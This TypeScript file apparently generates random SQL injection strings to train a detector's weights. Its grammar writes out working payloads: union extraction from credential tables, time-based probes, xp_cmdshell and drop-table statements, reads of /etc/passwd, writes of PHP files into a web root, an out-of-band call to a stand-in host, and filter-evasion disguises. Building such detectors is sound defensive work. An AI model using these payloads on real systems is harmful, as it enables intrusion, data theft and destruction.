// SQL injections made at random from a grammar: a value that is left, a shape, a way to make the rest of the query fit,
// then a disguise. The detector's weights are learned from them, so tests never measure with them.

/** A number in [0, 1). */
export type Random = () => number

type Make = (random: Random) => string

function pick<T>(list: readonly T[], random: Random): T {
  return list[Math.floor(random() * list.length)] as T
}

const words = (list: string): readonly string[] => list.split(' ')

/** Random text of several makers, joined. */
function join(...parts: readonly (string | Make)[]): Make {
  return (random) => parts.map((part) => (typeof part === 'string' ? part : part(random))).join('')
}

function oneOf(...makers: readonly (string | Make)[]): Make {
  return (random) => {
    const maker = pick(makers, random)
    return typeof maker === 'string' ? maker : maker(random)
  }
}

function maybe(share: number, maker: string | Make): Make {
  return (random) => (random() < share ? (typeof maker === 'string' ? maker : maker(random)) : '')
}

function some(least: number, most: number, separator: string, maker: string | Make): Make {
  return (random) => {
    const count = least + Math.floor(random() * (most - least + 1))
    return Array.from({ length: count }, () => (typeof maker === 'string' ? maker : maker(random))).join(
      separator,
    )
  }
}

const NAMES = words(
  'users accounts orders staff members admin customers sessions tokens news posts items payments logs profile clients ' +
    'employees t a emp cfg wp_users tblUsers user_data auth login',
)
const COLUMNS = words(
  'id name password pass login email user_id username role price title secret passwd uid pwd card token c col1 body',
)
const CATALOGS = words(
  'information_schema.tables information_schema.columns information_schema.schemata sysobjects syscolumns master..sysdatabases ' +
    'sys.tables sys.objects sqlite_master sqlite_schema all_tables all_tab_columns user_tables dual pg_tables pg_user pg_shadow ' +
    'pg_catalog.pg_class mysql.user sysibm.sysdummy1 syscat.tables rdb$database rdb$relations msysobjects systables v$version ' +
    'sys.user$ information_schema.system_users performance_schema.threads',
)
const integer: Make = (random) => String(Math.floor(10 ** (random() * 5)))
const word: Make = (random) => pick([...NAMES, ...COLUMNS, 'x', 'foo', 'abc', 'test', 'qTzv'], random)
const table = oneOf(
  ...NAMES,
  ...CATALOGS,
  join('`', ...['users'], '`'),
  '[users]',
  'public.users',
  'dbo.users',
)
const column = oneOf(...COLUMNS, ...COLUMNS, 't.id', 'users.name', '`id`', '[name]')
const text = (quote: string): Make => join(quote, maybe(0.8, word), maybe(0.3, '%'), quote)
const system = oneOf(
  ...words(
    '@@version version() user() database() current_user user schema() @@hostname @@datadir system_user() session_user ' +
      'current_database() db_name() host_name() suser_name() banner sqlite_version() current_schema @@servername user_name() ' +
      'pg_backend_pid() connection_id() @@basedir uid sysdate getdate() now() last_insert_rowid()',
  ),
)
const hex: Make = (random) => `0x${Math.floor(random() * 2 ** 32).toString(16)}`
const chars = oneOf(
  join('char(', some(1, 4, ',', integer), ')'),
  some(2, 4, '||', join('chr(', integer, ')')),
  some(2, 4, '+', join('char(', integer, ')')),
  join('concat(', some(2, 3, ',', join('0x', integer)), ')'),
)

/** A value of SQL, nested at most `depth` deep. */
function value(depth: number): Make {
  const flat = oneOf(integer, integer, text("'"), column, hex, 'null', system, chars, 'true', '@a', "''")
  if (depth === 0) return flat
  const inner: Make = (random) => value(depth - 1)(random)
  const query: Make = (random) => select(depth - 1)(random)
  return oneOf(
    flat,
    flat,
    join('(', query, ')'),
    join('(', inner, ')'),
    join(
      oneOf(
        ...words(
          'ascii ord length len hex unhex md5 sha1 upper lower char_length bit_length quote floor abs reverse',
        ),
      ),
      '(',
      inner,
      ')',
    ),
    join(oneOf('substring', 'substr', 'mid'), '(', inner, ',', integer, ',1)'),
    join(
      oneOf(
        'concat',
        'concat_ws',
        'coalesce',
        'ifnull',
        'nvl',
        'isnull',
        'greatest',
        'nullif',
        'elt',
        'make_set',
      ),
      '(',
      inner,
      ',',
      inner,
      ')',
    ),
    join(
      'cast(',
      inner,
      ' as ',
      oneOf('int', 'char', 'numeric', 'varchar(99)', 'signed', 'unsigned', 'nvarchar(4000)'),
      ')',
    ),
    join('convert(', oneOf('int', 'varchar'), ',', inner, ')'),
    join('case when ', (random) => condition(depth - 1)(random), ' then ', inner, ' else ', inner, ' end'),
    join(oneOf('if', 'iif'), '(', (random) => condition(depth - 1)(random), ',', inner, ',', inner, ')'),
    join(inner, oneOf('+', '-', '*', '/', '||', '%', ' div ', '|', '&', '^'), inner),
    join(oneOf('-', '~', '!', '+', 'binary ', 'not '), inner),
    join(inner, '::', oneOf('int', 'text', 'numeric')),
    join('left(', inner, ',', integer, ')'),
    join('decode(', inner, ',', inner, ',1,0)'),
    join('exp(~(', query, '))'),
  )
}

/** What is true or false. */
function condition(depth: number): Make {
  const side = value(depth)
  const plain = join(
    side,
    oneOf(
      '=',
      '=',
      '=',
      '<>',
      '!=',
      '<',
      '>',
      '>=',
      ' like ',
      ' rlike ',
      ' regexp ',
      '<=>',
      ' is not ',
      ' sounds like ',
      ' glob ',
      ' ilike ',
      '~',
    ),
    side,
  )
  const same: Make = (random) => {
    const operand = value(0)(random)
    return `${operand}${pick(['=', ' = ', ' like ', '<=>', ' in (', ' is '], random)}${operand}`.replace(
      / in \((.*)$/,
      ' in ($1)',
    )
  }
  return oneOf(
    same,
    same,
    plain,
    plain,
    join('(', plain, ')'),
    join(
      side,
      oneOf(
        ' is null',
        ' is not null',
        ' isnull',
        ' between 0 and 9',
        ' not between 1 and 2',
        ' in (1,2)',
        ' not in (0)',
      ),
    ),
    join('exists(', (random) => select(Math.max(0, depth - 1))(random), ')'),
    join('not ', plain),
    join(
      '(',
      (random) => select(Math.max(0, depth - 1))(random),
      ')',
      oneOf('=1', ">'a'", ' is not null', '>0', ''),
    ),
    delay,
    oneOf('true', '1', 'not false', 'not 0', '!0', "'1'", "'x'"),
    json,
  )
}

const json = oneOf(
  join('\'{"a":', integer, "}'::jsonb @> '{}'::jsonb"),
  join("'[1]' @> '1'"),
  join("json_extract('{\"a\":1}','$.a')=", integer),
  join("json_length('{}')", oneOf('=', '<=', '<'), integer),
  join("'{\"b\":2}'::jsonb ? 'b'"),
  join("json_value('{\"a\":1}','$.a')=1"),
  join("data->>'a'=", text("'")),
  join("isjson('{}')=1"),
)

/** Makes the database wait, fail, or reach out. */
const delay: Make = oneOf(
  join('sleep(', integer, ')'),
  join('pg_sleep(', integer, ')'),
  join('(select ', oneOf('sleep', 'pg_sleep'), '(', integer, '))'),
  join('(select * from (select(sleep(', integer, ')))', word, ')'),
  join('benchmark(', integer, '000000,', oneOf('md5', 'sha1', 'encode'), '(', integer, '))'),
  join('dbms_pipe.receive_message(', oneOf(text("'"), chars), ',', integer, ')', maybe(0.5, '=1')),
  join('(select count(*) from ', table, ' t1,', table, ' t2,', table, ' t3)', maybe(0.5, '>0')),
  join("like('abc',upper(hex(randomblob(", integer, '00000))))'),
  join('extractvalue(', integer, ',concat(0x7e,', value(0), '))'),
  join('updatexml(', oneOf('1', 'null', 'rand()'), ',concat(0x3a,', value(0), '),', oneOf('1', 'null'), ')'),
  join(
    '(select 1 from(select count(*),concat(',
    value(0),
    ',floor(rand(0)*2))x from ',
    table,
    ' group by x)a)',
  ),
  join(
    oneOf(
      'utl_inaddr.get_host_address',
      'utl_http.request',
      'ctxsys.drithsx.sn',
      'dbms_xmlgen.getxml',
      'httpuritype',
    ),
    '(',
    value(0),
    ')',
    maybe(0.5, '=1'),
  ),
  join('gtid_subset(', value(0), ',1)'),
  join("load_file('", oneOf('/etc/passwd', 'c:/boot.ini', '\\\\\\\\evil.example\\\\a'), "')"),
  join('xmltype(', value(0), ') is not null'),
  join('row(1,1)>(select count(*),concat(', value(0), ',floor(rand()*2))x from ', table, ' group by x)'),
)

function select(depth: number): Make {
  const columns = oneOf(
    some(1, 6, ',', integer),
    some(1, 6, ', ', 'null'),
    some(1, 4, ',', value(depth)),
    '*',
    join(
      oneOf('group_concat', 'count', 'max', 'min', 'string_agg', 'array_agg', 'xmlagg', 'listagg'),
      '(',
      oneOf(column, '*', join(column, ',0x3a,', column)),
      ')',
    ),
    some(1, 3, ',', column),
    join(some(1, 3, ',', integer), ',', system),
  )
  return join(
    oneOf(
      'select ',
      'select ',
      'select ',
      'select all ',
      'select distinct ',
      'select top 1 ',
      'select first 1 ',
    ),
    columns,
    maybe(0.6, join(' from ', table, maybe(0.2, oneOf(' a', ' as t')))),
    maybe(0.25, (random) => ` where ${condition(0)(random)}`),
    maybe(
      0.2,
      oneOf(
        join(' limit ', integer),
        join(' limit ', integer, ',1'),
        ' limit 1 offset 2',
        ' order by 1',
        ' fetch first 1 rows only',
        ' and rownum=1',
        ' group by 1',
      ),
    ),
  )
}

const statement: Make = oneOf(
  join('drop ', oneOf('table', 'database', 'view', 'user', 'table if exists'), ' ', table),
  join('truncate table ', table),
  join('delete from ', table, maybe(0.5, join(' where ', condition(0)))),
  join(
    'insert into ',
    table,
    maybe(0.6, join('(', some(1, 3, ',', column), ')')),
    ' values(',
    some(1, 3, ',', value(0)),
    ')',
  ),
  join('update ', table, ' set ', column, '=', value(0), maybe(0.5, join(' where ', condition(0)))),
  join('alter table ', table, oneOf(' add x int', ' drop column id', ' character set utf8')),
  join(
    'create ',
    oneOf('table', 'user', 'function', 'login', 'view'),
    ' ',
    word,
    oneOf('(a int)', ' as select 1', ' identified by x', " with password='x'"),
  ),
  join(
    'exec',
    oneOf('', 'ute'),
    ' ',
    oneOf('', 'master..', 'master.dbo.'),
    oneOf(
      'xp_cmdshell',
      'xp_dirtree',
      'sp_addlogin',
      'sp_configure',
      'xp_regread',
      'sp_executesql',
      'sp_oacreate',
    ),
    ' ',
    text("'"),
  ),
  join("exec('", select(0), "')"),
  join("execute immediate '", select(0), "'"),
  join("waitfor delay '0:0:", integer, "'"),
  join('declare @q varchar(99);set @q=', value(0), ';exec(@q)'),
  join('declare @', word, ' int'),
  join('if (', condition(1), ") waitfor delay '0:0:5'"),
  join('if ', condition(0), ' ', select(0), maybe(0.5, join(' else ', select(0)))),
  join('begin ', oneOf('dbms_lock.sleep', 'dbms_session.sleep', 'user_lock.sleep'), '(', integer, '); end'),
  select(1),
  select(1),
  join('call ', word, '(', value(0), ')'),
  oneOf('shutdown', 'shutdown with nowait', 'commit', 'rollback', 'vacuum', 'reconfigure'),
  join('grant all on ', table, ' to ', word),
  join('copy ', table, oneOf(" to '/tmp/x'", " from program 'id'", ' from stdin')),
  join("attach database '/tmp/x.php' as ", word),
  join('pragma table_info(', table, ')'),
  join("load data infile '/etc/passwd' into table ", table),
  join('handler ', table, ' open'),
  join('set @', word, '=', value(0)),
  join('merge into ', table, ' using dual on (1=1)'),
  join('rename table ', table, ' to x'),
  join('do $$ begin perform pg_sleep(', integer, '); end $$'),
  join('backup database x to disk=', text("'")),
  join('bulk insert ', table, ' from ', text("'")),
  join('print ', system),
  join('lock tables ', table, ' write'),
  join('create or replace function f(text) returns int as ', text("'")),
)

/** What goes on behind the value. */
const shape: Make = oneOf(
  ...Array.from({ length: 6 }, () =>
    join(
      oneOf(' or ', ' and ', ' or ', ' and ', '||', ' && ', ' xor ', ' and not ', ' or not '),
      condition(1),
    ),
  ),
  join(oneOf(' or ', ' and '), condition(0), oneOf(' or ', ' and '), condition(0)),
  join(oneOf(' union ', ' union all ', ' union distinct ', ' intersect ', ' except ', ' minus '), select(1)),
  join(oneOf(' union ', ' union all '), select(1)),
  join(' union all ', oneOf('(', '( '), select(0), ')'),
  join(' and 1=2 union ', select(1)),
  join(oneOf(';', '; ', ' ; '), statement),
  join(oneOf(';', '; '), statement, maybe(0.3, ';')),
  join(' ', oneOf("waitfor delay '0:0:5'", join('exec master..xp_cmdshell ', text("'")), 'select @@version')),
  join(
    ' order by ',
    oneOf(some(1, 4, ',', integer), join(integer, oneOf(' desc', ' asc')), join('(', select(0), ')'), delay),
  ),
  join(' group by ', oneOf(some(1, 3, ',', integer), join(column, ' having ', condition(0)))),
  join(' having ', condition(0)),
  join(
    ' limit ',
    integer,
    oneOf(
      '',
      join(' union ', select(0)),
      ' offset 1',
      ' into outfile 0x2f',
      join(',1 procedure analyse(', value(0), ',1)'),
    ),
  ),
  join(
    oneOf('+', '-', '*', '/', '||', '%', '^', '|', '&', ' div ', ' rlike ', ' like ', ' regexp '),
    oneOf(join('(', select(1), ')'), delay, join('(case when ', condition(0), ' then 1 else 0 end)')),
  ),
  join(
    ',',
    oneOf(join('(', select(1), ')'), delay, join('(case when ', condition(0), ' then 1 else 0 end)')),
  ),
  join(' is ', oneOf('null', 'not null'), maybe(0.6, join(oneOf(' or ', ' and '), condition(0)))),
  join(' in (', select(0), ')'),
  join(' between ', value(0), ' and ', value(0)),
  join(' collate utf8_bin or ', condition(0)),
  join(' where ', condition(0), maybe(0.5, join(' union ', select(0)))),
  join(' into ', oneOf('outfile', 'dumpfile'), " '/var/www/x.php'"),
  join(' procedure analyse(', value(0), ',', value(0), ')'),
  join(' as ', word, ' where ', condition(0), maybe(0.6, join(' or ', condition(0)))),
  '',
)

interface Place {
  readonly quote: string
  readonly values: readonly string[]
}
const PLACES: readonly Place[] = [
  { quote: '', values: words('1 7 -1 412 0 1.5 99999 -5173 id 0x1 null true') },
  { quote: '', values: ['1', '7', '-1', '412', '0', ''] },
  { quote: "'", values: ['', 'x', 'admin', '1', '-1', 'a@b.example', 'foo bar', 'abc%', '0', 'Gifts'] },
  { quote: "'", values: ['', '', '1', 'admin', 'test'] },
  { quote: '"', values: ['', 'x', 'admin', '1', 'test%'] },
]
const COMMENTS = [
  '--',
  '-- ',
  '--+',
  '-- -',
  '#',
  '/*',
  ';--',
  ';#',
  '-- x',
  '--%20',
  ';%00',
  '#foo',
  '%23',
  '`',
  ';',
]

/** Makes what comes after the shape fit. */
function ending(quote: string, parentheses: string): Make {
  const open = parentheses.replaceAll(')', '(')
  const balanced: Make = (random) => {
    const left = pick(['x', '1', 'a', 'qT', ''], random)
    const right = pick(['x', '1', 'a', 'b'], random)
    return `${pick([' and ', ' or ', ' && ', '||'], random)}${open}${quote}${left}${quote}${pick(['=', ' like ', '<', '!='], random)}${quote}${right}`
  }
  if (quote === '') return oneOf(...COMMENTS, '', '', '', join(' and ', open, integer, '=', integer))
  return oneOf(
    ...COMMENTS,
    ...COMMENTS,
    balanced,
    balanced,
    balanced,
    join(oneOf('+', '||', ' ', '-'), quote),
  )
}

const NOISE = ['/**/', '/*x*/', '%20', '+', '\t', '\n', '%0a', '%09', '  ', '/*!*/', '%a0', '\u00a0', '%0b']
const DISGUISES: readonly ((attack: string, random: Random) => string)[] = [
  (attack) => attack,
  (attack) => attack,
  (attack) => attack,
  (attack) => attack.toUpperCase(),
  (attack, random) => attack.replace(/[a-z]/g, (char) => (random() < 0.5 ? char.toUpperCase() : char)),
  (attack, random) => {
    const blank = pick(NOISE, random)
    return attack.replaceAll(' ', blank)
  },
  (attack, random) => attack.replace(/ /g, () => pick(NOISE, random)),
  (attack) => attack.replace(/\b(?:union|select|and|or|from|where)\b/g, (name) => `/*!50000${name}*/`),
  (attack) => attack.replace(/\b(?:union|select)\b/g, (name) => `/*!${name}*/`),
  (attack) => encodeURIComponent(attack).replaceAll("'", '%27'),
  (attack) => attack.replace(/ ?([=<>,()]) ?/g, ' $1 '),
  (attack) => attack.replace(/ (\d+)/g, ' ($1)').replaceAll(' (', '('),
  (attack, random) =>
    attack.replace(/(?<![\w.'])\d+(?![\w.'])/g, (digits) => (random() < 0.4 ? `${digits}e0` : digits)),
  (attack) => attack.replace(/(\w)\(/g, '$1 ('),
]

/** One attack. */
export function sqlAttack(random: Random): string {
  const { quote, values } = pick(PLACES, random)
  const parentheses = random() < 0.75 ? '' : ')'.repeat(1 + Math.floor(random() * 3))
  const slash = quote !== '' && random() < 0.03 ? pick(['\\', '%bf', '\\\\'], random) : ''
  let body = shape(random)
  if (quote === '"') body = body.replaceAll("'", random() < 0.5 ? '"' : "'")
  const tail = ending(quote, parentheses)(random)
  // What anybody may write: a value with nothing behind it, `1 is null`, `5 limit 3`, `7 between 1 and 9`.
  if (body === '' && (quote === '' || !/^(?:--|#|\/\*)/.test(tail))) return sqlAttack(random)
  if (
    quote === '' &&
    /^ (?:is|limit|between|in|as|like|collate)\b/.test(body) &&
    !/ or | union |select|=/.test(body)
  ) {
    return sqlAttack(random)
  }
  const attack = pick(values, random) + slash + quote + parentheses + body + tail
  return pick(DISGUISES, random)(attack, random)
}

/** Concatenation that stays within the literal: nothing is cut off, nothing compared. */
export function sqlSplice(random: Random): string {
  const quote = pick(["'", "'", '"'], random)
  const operator = pick(
    ['||', '+', ' || ', ' + ', '-', '*', '^', '&', ' or ', ' and ', ' xor ', ' div '],
    random,
  )
  const middle = oneOf(
    join('(', select(1), ')'),
    delay,
    system,
    chars,
    join('(', condition(0), ')'),
    join('case when ', condition(0), ' then 1 else 1/0 end'),
  )(random)
  const attack = `${pick(['', 'x', '1', 'abc'], random)}${quote}${operator}${middle}${operator}${quote}${pick(['', 'x', '1'], random)}`
  return pick(DISGUISES, random)(attack, random)
}
